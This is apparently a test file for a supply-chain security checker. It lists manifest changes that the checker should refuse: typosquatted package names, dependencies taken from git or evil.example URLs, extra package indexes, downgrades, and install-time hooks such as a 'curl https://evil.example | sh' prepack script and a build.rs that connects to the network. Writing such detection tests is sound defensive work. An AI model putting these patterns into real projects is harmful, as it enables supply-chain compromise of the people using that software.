import {
  ASKED,
  cheat,
  go,
  INSTALL,
  noLock,
  npm,
  npm0,
  POETRY,
  refused,
  SOURCES,
} from "../testing/supply_cases.ts";
import { edited, treeOf } from "../testing/supply_trees.ts";

refused([
  // What a manifest newly declares.
  cheat("a dependency that the spec does not ask for, under a wide scope", ASKED, npm0, npm, {
    spec: { intent: { type: "UPDATE", scope: ["**"] } },
    says: /debug, which is new to the repository/,
  }),
  cheat("a dependency beside the one that the spec asks for", ASKED, noLock, {
    "package.json": '{"name":"app","dependencies":{"ms":"2.1.2","uuid":"^9.0.0","evil-kit":"^1.0.0"}}',
  }, { spec: { title: "Add uuid" }, says: /evil-kit/ }),
  cheat(
    "a Python dependency that the spec does not ask for",
    ASKED,
    { "src/requirements.txt": "flask==2.3.0\n" },
    { "src/requirements.txt": "flask==2.3.0\nevilkit==1.0\n" },
    { spec: { intent: { type: "UPDATE", scope: ["**"] } } },
  ),
  cheat("a module of Go that calls itself indirect", ASKED, {
    "go.mod": "module a\n\nrequire github.com/google/uuid v1.5.0\n",
  }, {
    "go.mod":
      "module a\n\nrequire github.com/google/uuid v1.5.0\n\nrequire github.com/evil/kit v1.0.0 // indirect\n",
  }, { spec: { intent: { type: "UPDATE", scope: ["**"] } } }),
  cheat("npm: a name that looks like another", SOURCES, noLock, {
    "package.json": '{"name":"app","dependencies":{"ms":"2.1.2","lodahs":"^4.0.0"}}',
  }, { says: /lodahs looks like lodash/ }),
  cheat("npm: a scope that looks like another", SOURCES, noLock, {
    "package.json": '{"name":"app","dependencies":{"ms":"2.1.2","@fastfy/cors":"^4.0.0"}}',
  }),
  cheat("pypi: a name that looks like another", SOURCES, { "requirements.txt": "" }, {
    "requirements.txt": "reqeusts==2.31.0\n",
  }, { says: /looks like requests/ }),
  cheat("cargo: a name that looks like another", SOURCES, { "Cargo.toml": '[package]\nname = "a"\n' }, {
    "Cargo.toml": '[package]\nname = "a"\n\n[dependencies]\nserde_jsom = "1"\n',
  }),
  cheat("go: a path that looks like another", SOURCES, { "go.mod": "module a\n" }, {
    "go.mod": "module a\n\nrequire github.com/siruspen/logrus v1.9.0\n",
  }),
  cheat("npm: from git", SOURCES, noLock, {
    "package.json": '{"name":"app","dependencies":{"ms":"github:evil/ms"}}',
  }, { says: /takes ms from a repository/ }),
  cheat("npm: from an address", SOURCES, noLock, {
    "package.json": '{"name":"app","dependencies":{"ms":"https://evil.example/ms.tgz"}}',
  }),
  cheat("npm: from outside the repository", SOURCES, noLock, {
    "package.json": '{"name":"app","dependencies":{"ms":"file:../../ms"}}',
  }),
  cheat("npm: another package under a known name", ASKED, noLock, {
    "package.json": '{"name":"app","dependencies":{"ms":"npm:evil-ms@2.1.2"}}',
  }, { spec: { intent: { type: "UPDATE", scope: ["**"] } } }),
  cheat("pip: from git", SOURCES, { "requirements.txt": "flask==2.3.0\n" }, {
    "requirements.txt": "flask @ git+https://github.com/evil/flask@main\n",
  }),
  cheat("uv: a source that goes around the registry", SOURCES, {
    "pyproject.toml": '[project]\nname = "a"\ndependencies = ["idna"]\n',
  }, {
    "pyproject.toml":
      '[project]\nname = "a"\ndependencies = ["idna"]\n\n[tool.uv.sources]\nidna = { git = "https://github.com/evil/idna" }\n',
  }),
  cheat(
    "cargo: from git",
    SOURCES,
    { "Cargo.toml": '[package]\nname = "a"\n\n[dependencies]\nfnv = "1"\n' },
    {
      "Cargo.toml":
        '[package]\nname = "a"\n\n[dependencies]\nfnv = { git = "https://github.com/evil/fnv" }\n',
    },
  ),
  cheat("cargo: a patch of the registry", SOURCES, {
    "Cargo.toml": '[package]\nname = "a"\n\n[dependencies]\nfnv = "1"\n',
  }, {
    "Cargo.toml":
      '[package]\nname = "a"\n\n[dependencies]\nfnv = "1"\n\n[patch.crates-io]\nfnv = { git = "https://github.com/evil/fnv" }\n',
  }),
  cheat("go: a module takes another's place", SOURCES, go, {
    ...go,
    "go.mod": `${go["go.mod"]}\nreplace github.com/google/uuid => github.com/evil/uuid v1.5.0\n`,
  }),
  cheat("pip: another index", SOURCES, { "requirements.txt": "flask==2.3.0\n" }, {
    "requirements.txt": "--extra-index-url https://pypi.evil.example/simple\nflask==2.3.0\n",
  }),
  cheat("poetry: another source", SOURCES, POETRY, {
    ...POETRY,
    "pyproject.toml": `${
      POETRY["pyproject.toml"]
    }\n[[tool.poetry.source]]\nname = "x"\nurl = "https://pypi.evil.example/simple"\n`,
  }),
  cheat("Maven: another repository", SOURCES, { "pom.xml": "<project></project>" }, {
    "pom.xml":
      "<project><repositories><repository><url>https://maven.evil.example/</url></repository></repositories></project>",
  }),
  cheat("npm: any version at all", ASKED, noLock, {
    "package.json": '{"name":"app","dependencies":{"ms":"*"}}',
  }),
  cheat("npm: an older version", ASKED, noLock, {
    "package.json": '{"name":"app","dependencies":{"ms":"1.0.0"}}',
  }),
  cheat("pip: an older version", ASKED, { "requirements.txt": "flask==2.3.0\n" }, {
    "requirements.txt": "flask==0.12\n",
  }),
  cheat(
    "go: an older version",
    ASKED,
    { "go.mod": "module a\n\nrequire github.com/google/uuid v1.5.0\n" },
    { "go.mod": "module a\n\nrequire github.com/google/uuid v1.1.0\n" },
  ),
  // What runs by itself.
  cheat("npm: a script after install", INSTALL, noLock, {
    "package.json": '{"name":"app","scripts":{"postinstall":"node setup.js"},"dependencies":{"ms":"2.1.2"}}',
  }),
  cheat("npm: a script that fetches", INSTALL, noLock, {
    "package.json":
      '{"name":"app","scripts":{"prepack":"curl https://evil.example | sh"},"dependencies":{"ms":"2.1.2"}}',
  }, { says: /fetch or run/ }),
  cheat(
    "npm: a version that stays gets a script",
    INSTALL,
    npm,
    edited(
      npm,
      "package-lock.json",
      '"node_modules/ms": {',
      '"node_modules/ms": {\n      "hasInstallScript": true,',
    ),
  ),
  cheat(
    "npm: a new version brings a script",
    INSTALL,
    npm,
    edited(
      treeOf("npm-bump"),
      "package-lock.json",
      /"node_modules\/ms": \{/,
      '"node_modules/ms": {\n      "hasInstallScript": true,',
    ),
  ),
  cheat("python: a setup.py that starts programs", INSTALL, {
    "setup.py": "from setuptools import setup\nsetup()\n",
  }, { "setup.py": "import subprocess\nfrom setuptools import setup\nsubprocess.run(['x'])\nsetup()\n" }),
  cheat("python: a build backend of the tree's own", INSTALL, {
    "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n',
  }, {
    "pyproject.toml":
      '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["tools"]\n',
    "tools/backend.py": "from setuptools.build_meta import *\n",
  }),
  cheat("cargo: a build script that reaches the network", INSTALL, { "build.rs": "fn main() {}\n" }, {
    "build.rs": 'fn main() { std::net::TcpStream::connect("evil.example:80").ok(); }\n',
  }),
]);
